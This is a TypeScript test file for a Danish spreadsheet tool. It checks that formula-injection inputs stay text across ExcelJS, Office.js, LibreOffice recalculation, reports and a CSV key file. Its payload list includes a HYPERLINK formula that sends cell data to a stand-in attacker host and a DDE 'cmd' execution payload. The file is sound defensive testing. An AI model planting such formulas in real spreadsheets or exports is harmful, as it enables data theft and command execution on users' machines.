// Formula injection: text that begins with =, +, -, @, a tab or a carriage return stays text in every
// adapter (ExcelJS files, Office.js through the fake, also after LibreOffice recalculated the file), in
// every table, in the reports, in Problemer and Log, and in the pseudonymisation key file.
import path from "path";
import ExcelJS from "exceljs";
import { applyPlan as applyToFile } from "../../src/adapters/xlsx/apply-plan";
import { applyPlan as applyToOffice } from "../../src/adapters/officejs/apply-plan";
import { createOfficePort } from "../../src/adapters/officejs/port";
import { recalculate } from "../../src/adapters/libreoffice/recalc";
import { generateStructuredData } from "../../src/sample/structured-data";
import type { StructuredData } from "../../src/domain/model";
import { buildStructuredPlan } from "../../src/workbook/structured-plan";
import { buildNoegletalSheet } from "../../src/workbook/report/noegletal";
import { buildPladsreguleringSheet, defaultBudgets } from "../../src/workbook/report/pladsregulering";
import { buildKvartalsoversigtSheet } from "../../src/workbook/report/kvartalsoversigt";
import { buildPublishedPlan } from "../../src/workbook/report/publish";
import { problemsSheet } from "../../src/workbook/problems-plan";
import { logSheet } from "../../src/workbook/audit-log";
import { csvField, keyCsv } from "../../src/workbook/pseudonymise";
import { ymd } from "../../src/domain/dates";
import type { Plan } from "../../src/workbook/plan";
import { FakeExcel, fakeRun } from "../support/fake-excel";
import { tempDir } from "../support/recalc-helpers";
import { installExcelJsPatches } from "../../src/adapters/xlsx/exceljs-patches/index";

/** Known payloads: formulas, DDE, hyperlinks, signs and the whitespace Excel trims before parsing. */
export const PAYLOADS = [
  "=1+1",
  '=HYPERLINK("http://angriber.example/?d="&A1,"Klik her")',
  "=cmd|' /C calc'!A0",
  "+45 12 34 56 78",
  "+1+1",
  "-2+3",
  "-",
  "@SUM(A1:A9)",
  "@",
  "\t=1+1",
  "\r=1+1",
  "\r\n+1",
  "=",
  "'=1+1",
  "==1",
];

/** A data set whose free text, names and one unit's name are payloads. */
function poisoned(): StructuredData {
  const data = generateStructuredData(21, { cases: PAYLOADS.length });
  const unit = data.units[0].enhed;
  const evilUnit = "=2+3";
  data.units[0].enhed = evilUnit;
  data.cases.forEach((c, i) => {
    c.navn = PAYLOADS[i];
    c.bemaerkninger = PAYLOADS[(i + 3) % PAYLOADS.length];
    c.kontaktperson = PAYLOADS[(i + 5) % PAYLOADS.length];
    if (c.enhed === unit) c.enhed = evilUnit;
  });
  data.visitations.forEach((v, i) => (v.begrundelse = PAYLOADS[i % PAYLOADS.length]));
  data.measurements.forEach((m, i) => (m.bemaerkning = PAYLOADS[i % PAYLOADS.length]));
  return data;
}

function allPlans(data: StructuredData): Plan {
  const year = ymd(data.params.periodestart).year;
  const structured = buildStructuredPlan(data, {
    log: [{ time: 45_000.5, action: "Formular", table: "Sager", key: PAYLOADS[0], column: "Navn", from: PAYLOADS[1], to: PAYLOADS[2] }],
  });
  return {
    sheets: [
      ...structured.sheets.filter((s) => s.name !== "Log"),
      problemsSheet(PAYLOADS.map((p, i) => ({ sheet: "Sager", cell: `C${i + 2}`, severity: "advarsel", code: "TEST", message: p, original: p }))),
      logSheet(
        structured.sheets
          .find((s) => s.name === "Log")!
          .tables[0].rows.map((r) => ({
            time: r[0] as number,
            action: "Formular",
            table: "Sager",
            key: r[3] as string,
            column: "Navn",
            from: r[5] as string,
            to: r[6] as string,
          }))
      ),
      buildNoegletalSheet(data, year).sheet,
      buildPladsreguleringSheet(data, year, defaultBudgets(data, [])),
      buildKvartalsoversigtSheet(data, year).sheet,
    ],
    names: structured.names,
  };
}

/** Every payload-bearing cell of a workbook: where it is, and whether it became a formula. */
function payloadCells(wb: ExcelJS.Workbook): { where: string; formula: boolean; value: unknown }[] {
  const out: { where: string; formula: boolean; value: unknown }[] = [];
  for (const ws of wb.worksheets) {
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        const formula = cell.type === ExcelJS.ValueType.Formula;
        const text = formula ? (cell.formula ?? "") : String(cell.value);
        const hit =
          PAYLOADS.some((p) => (formula ? text.includes("angriber.example") || text.includes("cmd|") || text === "1+1" || text === "2+3" : text === p)) ||
          text === "=2+3";
        if (hit) out.push({ where: `${ws.name}!${cell.address}`, formula, value: cell.value });
      })
    );
  }
  return out;
}

// These tests read the files written with ExcelJS itself, which needs the adapter's reading patches.
beforeAll(() => installExcelJsPatches());

describe("ExcelJS files", () => {
  let file: string;
  let dir: string;

  beforeAll(async () => {
    dir = await tempDir("injektion");
    const wb = new ExcelJS.Workbook();
    applyToFile(wb, allPlans(poisoned()));
    file = path.join(dir, "injektion.xlsx");
    await wb.xlsx.writeFile(file);
  });

  test("every payload is a text cell in every table and report, never a formula", async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    const cells = payloadCells(wb);
    expect(cells.length).toBeGreaterThan(PAYLOADS.length * 3);
    expect(cells.filter((c) => c.formula)).toEqual([]);
    const sager = wb.getWorksheet("Sager")!;
    // XML reads a bare carriage return back as a line feed: still text, the same line break.
    PAYLOADS.forEach((p, i) => expect(sager.getCell(`C${i + 2}`).value).toBe(p.replace(/\r\n?/g, "\n")));
    // The unit named "=2+3" reaches the reports as text.
    const reports = cells.filter((c) => /^(Nøgletal|Pladsregulering|Kvartalsoversigt)!/.test(c.where));
    expect(reports.length).toBeGreaterThan(0);
    expect(reports.every((c) => c.value === "=2+3")).toBe(true);
  });

  test("after LibreOffice recalculated and saved the file, every payload is still text", async () => {
    const [out] = await recalculate([file], path.join(dir, "ud"));
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(out);
    const cells = payloadCells(wb);
    expect(cells.filter((c) => c.formula)).toEqual([]);
    const sager = wb.getWorksheet("Sager")!;
    PAYLOADS.forEach((p, i) => expect(String(sager.getCell(`C${i + 2}`).value).replace(/\r\n?/g, "\n")).toBe(p.replace(/\r\n?/g, "\n")));
  });
});

describe("Office.js through the fake", () => {
  test("applying the plan writes every payload as text (the fake turns unprotected ones into formulas)", async () => {
    const fake = new FakeExcel();
    await applyToOffice(allPlans(poisoned()), fakeRun(fake), { host: fake });
    const sager = fake.sheet("Sager");
    PAYLOADS.forEach((p, i) => {
      const cell = sager.cell(`C${i + 2}`);
      expect(cell.formula).toBeUndefined();
      expect(cell.value).toBe(p);
    });
    for (const s of fake.sheets) {
      for (const cell of s.cells.values()) {
        if (cell.formula === undefined) continue;
        expect(cell.formula).not.toMatch(/HYPERLINK\("http|cmd\||^=1\+1$|^=2\+3$|^=SUM\(A1:A9\)$/);
      }
    }
  });

  test("a form save of a payload stays text", async () => {
    const fake = new FakeExcel();
    await applyToOffice(buildStructuredPlan(generateStructuredData(4, { cases: 6 })), fakeRun(fake), { host: fake });
    const port = createOfficePort(fakeRun(fake));
    const before = (await port.readTable("Sager"))!.rows.length;
    await port.saveRows([{ table: "Sager", appends: PAYLOADS.map((p, i) => ({ "Sags-ID": `S-X${i}`, Enhed: "Kilen", Navn: p, Bemærkninger: p })) }]);
    const after = (await port.readTable("Sager"))!;
    const navn = after.headers.indexOf("Navn");
    expect(after.rows.slice(before).map((r) => r[navn])).toEqual(PAYLOADS);
    const sager = fake.sheet("Sager");
    for (const cell of sager.cells.values()) if (cell.formula) expect(cell.formula).not.toMatch(/^=1\+1$|cmd\||HYPERLINK\("http/);
  });
});

describe("the published overview and the key file", () => {
  test("the published overview holds the unit name as text", async () => {
    const data = poisoned();
    const wb = new ExcelJS.Workbook();
    applyToFile(wb, buildPublishedPlan(data, ymd(data.params.periodestart).year));
    const buf = await wb.xlsx.writeBuffer();
    const back = new ExcelJS.Workbook();
    await back.xlsx.load(buf as ArrayBuffer);
    const cells = payloadCells(back);
    expect(cells.filter((c) => c.formula)).toEqual([]);
  });

  test("CSV fields that a spreadsheet would run get a leading apostrophe", () => {
    for (const p of PAYLOADS) {
      const f = csvField(p);
      expect(f.replace(/^"/, "")).toMatch(/^[^=+\-@\t\r]/);
    }
    expect(keyCsv([{ sagsId: "S-1", cpr: "010203-1234", navn: "=1+1" }])).toContain("S-1;010203-1234;'=1+1");
  });
});
